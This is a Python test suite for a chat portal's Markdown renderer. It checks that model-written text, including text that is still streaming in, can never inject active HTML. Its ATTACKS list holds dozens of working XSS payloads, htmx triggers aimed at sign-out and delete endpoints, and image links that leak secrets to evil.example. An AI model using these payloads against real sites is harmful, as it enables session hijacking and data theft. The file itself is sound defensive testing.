"""Whatever a model writes, a page gets only what the portal means to show: whole, and at every moment on the way."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.markdown import GrowingMarkdown, Labels, render
from chat.markdown.labels import Look
from chat.markdown.polish import polish

from .dom import parsed, surprises, text_of

LABELS = Labels(icons="/icons.svg")
ATTACKS = [
    # Elements that run, load or frame
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <img src=x onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)><embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    # Elements that change the page around them
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<form id=composer><input name=attributes>",
    "<a id=prompt name=prompt>x</a><img name=getElementById>",
    "</article></li></ol><h1>Not from the model</h1>",
    "</answer-stream><answer-stream data-run=1>",
    # htmx
    "<b hx-get=/sign-out/ hx-trigger=load>x</b>",
    "<b data-hx-post=/c/1/delete/ data-hx-trigger='load once'>x</b>",
    "<div hx-on:load='alert(1)' hx-ext=ws ws-connect=//evil.example>x</div>",
    "<div hx-swap-oob='true' id=thread>x</div>",
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/c/1/delete/)",
    "[x](#prompt)",
    "[x](#fn-1)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](http://good.example@evil.example/)",
    'x [y](http://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    'http://a.example/"onmouseover="alert(1)',
    'https://a.example/茶"onmouseover="alert(1)',
    # Pictures
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: //evil.example/?q=secret",
    '![x" onerror="alert(1)](http://evil.example)',
    "[![x](javascript:alert(1))](http://a.example)",
    "![[![x](http://evil.example)](javascript:alert(1))](x)",
    # Names given by the text
    '```x" onmouseover="alert(1)\ncode\n```',
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~\n</pre></figure><img src=x onerror=alert(1)>",
    "# x {#prompt onclick=alert(1)}",
    'Tea[^"><script>] x\n\n[^"><script>]: <img src=x onerror=alert(1)>',
    "Tea[^prompt]\n\n[^prompt]: x",
    "|<script>|b|\n|-|:-:|\n|<img src=x onerror=alert(1)>|`</td><script>`|",
    # Formulas
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$ $\class{caret}{x}$ $\style{color:red}{x}$",
    r"$$\color{red;background:url(//evil.example)}{x}$$",
    r"\(\unicode{x3c}script>\) \[<script>alert(1)</script>\]",
    r"$\mbox{<style><img src=x onerror=alert(1)>}\text{&lt;script&gt;}$",
    "**$$x$$ <b>** $$<i>$$",
    # Our own stand-ins
    "<mark>0</mark> <ins>0</ins> `x` $y$",
    "\ue0f0script\ue0f1 $\\text{\ue0f0script\ue0f1alert(1)\ue0f0/script\ue0f1}$",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", ["{}", "- {}", "> {}", "**{}**", "|a|\n|-|\n|{}|"])
def test_an_attack_is_only_words(place, attack):
    """S10, S11, S12, S13, S14."""
    assert surprises(render(place.format(attack), labels=LABELS, prefix="p-")) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_words_at_every_moment(attack):
    """S10."""
    growing, seen = GrowingMarkdown(labels=LABELS, prefix="p-"), set()
    for letter in attack:
        growing.append(letter)
        growing.flush()
        seen.add(growing.frozen_html + growing.open_html)
    seen |= {render(attack[:cut], labels=LABELS, prefix="p-") for cut in range(len(attack))}

    assert [surprises(html) for html in seen if surprises(html)] == []


# Notes have ids, and code and formulas have stand-ins: of these two the parser alone sees to it that they are ours.
@pytest.mark.parametrize("attack", [each for each in ATTACKS if "<a id=" not in each and "<mark>" not in each])
def test_what_the_parser_would_let_through_the_allow_list_does_not(attack):
    """S10, S11, S12, S14. Raw HTML is escaped before; this is the wall behind it."""
    assert surprises(polish(f"<p>{attack}</p>", Look(LABELS, "p-"))) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, *"\n*_`$|<>[](){}!\"'-#:~^&\\ "]), max_size=8))
def test_attacks_put_together_are_only_words(parts):
    assert surprises(render("".join(parts), labels=LABELS, prefix="p-")) == []


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=100))
def test_any_text_is_shown_without_surprises(text):
    assert surprises(render(text, labels=LABELS, prefix="p-")) == []


def test_raw_html_is_shown_as_it_was_written():
    assert "<script>alert(1)</script>" in text_of(render("<script>alert(1)</script>", labels=LABELS))


@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("[docs](https://evil.example/x)", "docs evil.example"),
        ("[good.example](https://evil.example/x)", "good.example evil.example"),
        ("[x](http://good.example@evil.example/)", "x evil.example"),
        ("![plan](https://evil.example/p.png)", "plan evil.example"),
        ("[https://good.example/evil.example](https://evil.example)", "https://good.example/evil.example evil.example"),
        ("[bank.example](https://k.example)", "bank.example k.example"),
        ("<https://evil.example/x>", "https://evil.example/x"),
        ("[evil.example](https://evil.example/x)", "evil.example"),
        ("[write](mailto:eve@evil.example?subject=x)", "write eve@evil.example"),
    ],
)
def test_a_link_says_where_it_leads(source, host):
    """S13."""
    assert text_of(render(source, labels=LABELS)).strip() == host


def test_links_open_elsewhere_and_tell_nothing():
    """S13."""
    (link,) = parsed(render("[x](https://a.example)", labels=LABELS)).iter("{http://www.w3.org/1999/xhtml}a")

    assert link.attrib == {
        "href": "https://a.example",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }
